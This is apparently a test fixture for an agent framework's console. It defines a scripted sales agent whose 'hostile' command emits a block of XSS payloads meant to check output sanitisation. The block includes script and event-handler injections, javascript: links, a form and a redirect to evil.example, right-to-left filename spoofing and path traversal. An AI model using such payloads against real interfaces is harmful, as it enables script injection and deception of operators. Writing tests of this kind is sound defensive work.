import { z } from 'zod'
import { skill } from '../../../../src/core/agent/skill.ts'
import type { Turn } from '../../../../src/core/agent/turn.ts'
import { agent } from '../../../../src/core/node/local-agent.node.ts'
import { createAgentLoop } from '../../../../src/loop/agent-loop.ts'
import { localTool } from '../../../../src/loop/tools/tool.ts'
import { scriptedModel, textReply, toolCalls } from '../../../support/models/scripted-model.ts'

const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FAAhKDveksOjmAAAAAElFTkSuQmCC'

/** What a model with good manners writes. */
const richText = `## Sales of the first quarter

Revenue grew by **12 %**. The table has the *three largest* regions.

| Region | Revenue | Change |
|---|--:|--:|
| North | 1,204,000 | +8 % |
| South | 987,500 | +21 % |
| West | 640,200 | −3 % |

1. South grew because of the new office.
2. West lost one large customer.

\`\`\`ts
const growth = (after - before) / before
\`\`\`

> Numbers are rounded. See [the method](https://example.com/method).
`

/** What an agent writes that attacks the operator. */
export const hostileText = `<script>window.attacked = 'script'</script>

<img src=x onerror="window.attacked = 'img'"> <svg onload="window.attacked = 'svg'"></svg>

<iframe srcdoc="<script>parent.attacked = 'iframe'</script>"></iframe>

Text [link](javascript:window.attacked='link') [data](data:text/html,<script>parent.attacked=1</script>) [own](/console/api/v1/session)

![track](http://tracker.example/pixel.png) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

Inline <a href="/console/" style="position:fixed;inset:0;z-index:999">everywhere</a>

<form action="http://evil.example"><input name=secret></form>

<style>body { display: none }</style> <base href="http://evil.example/"> <meta http-equiv=refresh content="0;url=http://evil.example">

\u202egnp.exe\u202c ${'W'.repeat(5_000)}

[ref]: javascript:window.attacked='ref'

[click][ref] <javascript:window.attacked=1> http://evil.example/auto

\`\`\`"><img src=x onerror=window.attacked=1>
</code></pre><script>window.attacked = 'code'</script>
\`\`\`
`

const report = skill({
  id: 'report',
  name: 'Report',
  description: 'Writes a report about a region.',
  tags: ['sales', 'reports'],
  examples: ['Sales of the north in the first quarter'],
  input: z.object({
    region: z.enum(['north', 'south', 'west']).describe('The region to report on.'),
    quarter: z.number().int().min(1).max(4),
    since: z.string().meta({ format: 'date' }).optional(),
    detailed: z.boolean().default(false),
    recipients: z.array(z.string().min(3)).max(3).optional(),
  }),
  output: z.object({ title: z.string() }),
  run: ({ region, quarter }) => ({ title: `Report of ${region}, quarter ${quarter}` }),
})

/** An agent that does on request everything that the console can show. The first word of the message selects it. */
export const assistant = agent(
  {
    name: 'Sales assistant',
    version: '2.4.0',
    description: 'Answers questions about sales, and writes reports.',
    provider: { organization: 'Example Ltd.', url: 'https://example.com' },
    skills: [report],
  },
  async (turn) => {
    const [word = '', argument = ''] = turn.text.split(' ')
    const command = commands[word]
    return command ? await command(turn, argument) : `You said: ${turn.text}`
  },
)

const commands: Readonly<Record<string, (turn: Turn, argument: string) => Promise<string | undefined>>> = {
  stream: (turn, count) => writeChunks(turn, Number(count), 0),
  slow: (turn, count) => writeChunks(turn, Number(count), 10),
  report: async (turn) => {
    await turn.status('working', 'Reading the numbers')
    await turn.status('working', 'Writing the report')
    await turn.file({ name: 'chart.png', mediaType: 'image/png', content: Buffer.from(pixel, 'base64') })
    await turn.data({ region: 'north', revenue: 1_204_000, months: [402_000, 398_000, 404_000] }, 'numbers.json')
    await turn.status('completed', richText)
    return undefined
  },
  hostile: async (turn) => {
    await turn.file({
      name: '../\u202egpj.exe<img src=x onerror=attacked=1>',
      mediaType: 'text/html',
      content: Buffer.from(hostileText),
    })
    await turn.data({ html: hostileText, deep: '\u202e' })
    await turn.status('completed', hostileText)
    return undefined
  },
  big: async (turn) => {
    await turn.data({ rows: Array.from({ length: 100_000 }, (_, id) => ({ id, text: 'x'.repeat(60), ok: true })) })
    await turn.status('completed', 'Done')
    return undefined
  },
  choose: async (turn) => {
    const region = await turn.ask('Which region?', { schema: z.enum(['north', 'south', 'west']) })
    return await complete(turn, `You chose ${region}`)
  },
  publish: async (turn) => {
    const schema = z.enum(['Send it', 'Not yet'])
    const decision = await turn.ask('The report goes to **214 subscribers**. May I send it?', { schema })
    return await complete(turn, decision === 'Send it' ? 'It is on its way.' : 'I keep it as a draft.')
  },
  form: async (turn) => {
    const schema = z.object({
      name: z.string().min(2).describe('The person who gets the report.'),
      copies: z.number().int().min(1),
    })
    const { name, copies } = await turn.ask('Please complete the order.', { schema })
    return await complete(turn, `${copies} copies for ${name}`)
  },
  ask: async (turn) => {
    const answer = await turn.ask('What is your name?', { timeout: 600_000 })
    return await complete(turn, `Hello ${answer.text}`)
  },
  login: async (turn) => {
    const credentials = await turn.requireAuth({
      scheme: 'github',
      url: 'https://example.com/token',
      description: 'A token',
    })
    return await complete(turn, `Received ${credentials.secret().length} characters`)
  },
  files: async ({ message }) => {
    const sizes = message.parts.flatMap((part) =>
      'raw' in part ? [`${part.filename} has ${Buffer.from(part.raw, 'base64').length} bytes`] : [],
    )
    return sizes.join(', ')
  },
  wait: async (turn) => {
    await turn.status('working', 'Waiting for you to cancel')
    await new Promise<void>((resolve) => turn.signal.addEventListener('abort', () => resolve()))
    return undefined
  },
  fail: async (turn) => {
    await turn.fail('The warehouse does not answer')
    return undefined
  },
  throw: async (turn) => {
    await turn.status('working', 'Printing')
    throw new TypeError('The printer has no paper')
  },
}

async function complete(turn: Turn, text: string): Promise<undefined> {
  await turn.status('completed', text)
  return undefined
}

async function writeChunks(turn: Turn, count: number, delay: number): Promise<undefined> {
  const artifact = turn.artifact('numbers.md')
  for (let number = 1; number <= count && !turn.signal.aborted; number++) {
    await artifact.write(`word${number}${number % 12 === 0 ? '.\n\n' : ' '}`)
    if (delay > 0) await new Promise((resolve) => setTimeout(resolve, delay))
  }
  await artifact.close()
  return await complete(turn, `Wrote ${count} words`)
}

/** An agent whose tool needs an approval within five minutes, and that keeps waiting across restarts. */
export function createRefunder() {
  const refund = localTool({
    name: 'refund',
    description: 'Pays back an order.',
    input: z.object({ order: z.string(), amount: z.number() }),
    needsApproval: true,
    run: ({ order }) => ({ refunded: order }),
  })
  const model = scriptedModel(
    toolCalls(['refund', '{"order":"A-1047","amount":129.5}']),
    textReply('The order is settled.'),
  )
  return agent(
    { name: 'Refunds', description: 'Pays back orders, after an approval.', recovery: 'resume' },
    createAgentLoop({ model, tools: [refund] }),
  )
}
